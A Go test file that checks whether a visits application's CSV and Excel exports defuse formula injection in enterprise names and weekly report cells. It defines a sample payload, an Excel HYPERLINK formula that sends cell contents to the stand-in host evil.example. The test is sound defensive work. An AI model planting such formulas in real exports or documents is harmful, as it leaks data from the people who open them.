package render

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/liaison-dev/liaison/visits"
	"github.com/xuri/excelize/v2"
)

// formulaName is a name a laptop could send that Excel would run.
const formulaName = `=HYPERLINK("http://evil.example/?x="&A1,"点我")`

// TestExportDefusesFormulas: a name that is a formula goes into the CSV
// export with a leading ' (before: as is) and into the xlsx as a string.
func TestExportDefusesFormulas(t *testing.T) {
	ds := visits.Dataset{Enterprises: []visits.Enterprise{{Meta: visits.Meta{ID: "e1"}, Name: formulaName, USCC: "91350100M000100Y43", Street: "@x"}}}
	var buf bytes.Buffer
	if err := ExportCSV(&buf, ds, visits.TypeEnterprise); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, c := range recs[1] {
		if c == formulaName || strings.HasPrefix(c, "@") {
			t.Errorf("formula cell exported as is: %q", c)
		}
		found = found || c == "'"+formulaName
	}
	if !found {
		t.Errorf("defused name not found in %q", recs[1])
	}

	buf.Reset()
	if err := ExportXLSX(&buf, ds); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, _ := f.GetRows(visits.TypeEnterprise)
	for j, c := range rows[1] {
		cell, _ := excelize.CoordinatesToCellName(j+1, 2)
		if formula, _ := f.GetCellFormula(visits.TypeEnterprise, cell); formula != "" {
			t.Errorf("%s holds formula %q", cell, formula)
		}
		if c == formulaName {
			if typ, _ := f.GetCellType(visits.TypeEnterprise, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("%s: type %v, want a string", cell, typ)
			}
			found = false
		}
	}
	if found {
		t.Error("the name is not kept as a string in the xlsx")
	}
}

// TestReportCSVDefusesFormulas: the weekly report's CSV, meant for Excel,
// defuses names and next steps that came from any laptop.
func TestReportCSVDefusesFormulas(t *testing.T) {
	r := visits.Report{District: "+区", Rows: []visits.PipelineRow{{Name: formulaName, USCC: "91350100M000100Y43"}}}
	var buf bytes.Buffer
	if err := CSV(&buf, r, visits.ZH); err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff")))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := false
	for _, rec := range recs {
		for _, c := range rec {
			if len(c) > 1 && strings.ContainsRune("=+@", rune(c[0])) && visits.CSVCell(c) != c {
				t.Errorf("formula-like cell %q", c)
			}
			seen = seen || c == "'"+formulaName
		}
	}
	if !seen {
		t.Errorf("defused name missing:\n%s", buf.String())
	}
}
